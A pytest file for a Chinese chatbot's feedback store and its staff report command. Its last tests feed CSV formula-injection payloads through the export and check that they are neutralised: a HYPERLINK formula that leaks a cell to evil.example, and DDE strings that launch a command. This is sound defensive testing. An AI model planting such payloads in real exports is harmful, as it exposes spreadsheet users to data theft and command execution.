"""The feedback store (SQLite, WAL) and the staff report: python -m bot report [--since] [--csv].

No server needed: a store in a temp dir, filled by hand, read back through the real CLI.
"""
from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from bot.feedback import FeedbackStore, csv_cell

REPO = Path(__file__).resolve().parent.parent
GDP = "2019年全市GDP是多少？"
MAYOR = "市长是谁？"
PLAN = "下半年高校建设有哪些计划？"
PLAN_ANSWER = "加强骨干教师梯队建设，启动新一期市中小学教育名家培养工程。[1]"
OLD = datetime(2020, 1, 15, 9, 30).timestamp()


def run_report(data_dir: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "BOT_DATA_DIR": str(data_dir)}
    return subprocess.run([sys.executable, "-m", "bot", "report", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=60)


@pytest.fixture
def data_dir(tmp_path) -> Path:
    store = FeedbackStore.in_dir(tmp_path)
    for q in (GDP, GDP, GDP, MAYOR):
        store.refusal(q, channel="api")
    store.vote("down", PLAN, PLAN_ANSWER, [{"n": 1, "section_id": "d#2.5"}], channel="page", session_key="s1:3")
    store.vote("down", PLAN, PLAN_ANSWER, channel="api")
    store.vote("up", "上半年资助了多少学生？", "……54925人次……[1]", channel="page")
    store.refusal("去年的老问题", channel="page")
    with sqlite3.connect(store.path) as db:  # one refusal from long ago, for --since
        db.execute("UPDATE refusals SET ts = ? WHERE question = '去年的老问题'", (OLD,))
    store.close()
    return tmp_path


def test_store_is_wal_and_a_repeated_page_vote_replaces_the_first(tmp_path):
    store = FeedbackStore.in_dir(tmp_path)
    first = store.vote("up", "q", "a", session_key="sess:1")
    second = store.vote("down", "q", "a", session_key="sess:1")
    other = store.vote("down", "q", "a")
    assert first == second != other
    assert [(v["id"], v["vote"]) for v in store.votes()] == [(first, "down"), (other, "down")]
    with sqlite3.connect(tmp_path / "feedback.db") as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    with pytest.raises(ValueError):
        store.vote("meh", "q", "a")


def test_report_groups_and_counts(data_dir):
    rep = FeedbackStore.in_dir(data_dir).report()
    assert [(r["question"], r["count"]) for r in rep["refused"]] == [(GDP, 3), (MAYOR, 1), ("去年的老问题", 1)]
    assert [(r["question"], r["answer"], r["count"]) for r in rep["disliked"]] == [(PLAN, PLAN_ANSWER, 2)]


def test_report_table(data_dir):
    out = run_report(data_dir)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0] == "未能回答的问题（共 5 次，3 个不同问题）"
    assert lines[1].split() == ["次数", "最近一次", "问题"]
    assert lines[2].split()[0] == "3" and lines[2].endswith(GDP)
    assert lines[3].split()[0] == "1" and lines[3].endswith(MAYOR)
    assert "被点踩（👎）的回答（共 2 次，1 条不同回答）" in lines
    row = lines[lines.index("被点踩（👎）的回答（共 2 次，1 条不同回答）") + 2]
    assert row.split()[0] == "2" and PLAN in row
    assert row.endswith("…") and PLAN_ANSWER[:20] in row  # long answers are clipped in the table (not in CSV)


def test_report_csv_and_since(data_dir):
    out = run_report(data_dir, "--csv")
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert [(r["kind"], r["count"], r["question"]) for r in rows] == [
        ("refused", "3", GDP), ("refused", "1", MAYOR), ("refused", "1", "去年的老问题"), ("disliked", "2", PLAN)]
    assert rows[-1]["answer"] == PLAN_ANSWER
    assert rows[2]["last_seen"] == "2020-01-15 09:30"
    recent = list(csv.DictReader(io.StringIO(run_report(data_dir, "--csv", "--since", "2020-06-01").stdout)))
    assert "去年的老问题" not in {r["question"] for r in recent} and len(recent) == 3


def test_report_bad_date_and_no_data(tmp_path):
    bad = run_report(tmp_path, "--since", "昨天")
    assert bad.returncode == 2 and "YYYY-MM-DD" in bad.stderr and bad.stdout == ""
    empty = run_report(tmp_path / "nothing")
    assert empty.returncode == 0 and "还没有反馈数据" in empty.stdout
    assert not (tmp_path / "nothing").exists()  # the report never creates a database


@pytest.mark.parametrize("text,safe", [
    ("=1+1", "'=1+1"), ("+86 510", "'+86 510"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("－1", "'－1"),
    ("上半年资助了多少学生？", "上半年资助了多少学生？"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
])
def test_csv_cell_neutralises_formulas(text, safe):
    assert csv_cell(text) == safe
    assert csv_cell(3) == 3 and csv_cell(None) is None  # counts and empty cells unchanged


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "问题\r=1+1", "问题\n@SUM(1)"]


def test_report_csv_has_no_formula_cells(tmp_path):
    store = FeedbackStore.in_dir(tmp_path)
    for f in FORMULAS:
        store.refusal(f, channel="api")
        store.vote("down", f"问{f}", f, channel="api")
    store.close()
    out = subprocess.run([sys.executable, "-m", "bot", "report", "--csv"], cwd=REPO, capture_output=True,
                         env={**os.environ, "BOT_DATA_DIR": str(tmp_path)}, timeout=60)  # bytes: CR stays CR
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline="")))
    assert len(rows) == 1 + 2 * len(FORMULAS) and all(len(r) == 5 for r in rows)  # a line break never ends a row
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))], cells
    safe = {f if f.startswith("问") else "'" + f for f in FORMULAS}  # the text is kept, after a quote
    assert {r[3] for r in rows if r[0] == "refused"} == safe
    assert {r[4] for r in rows if r[0] == "disliked"} == safe
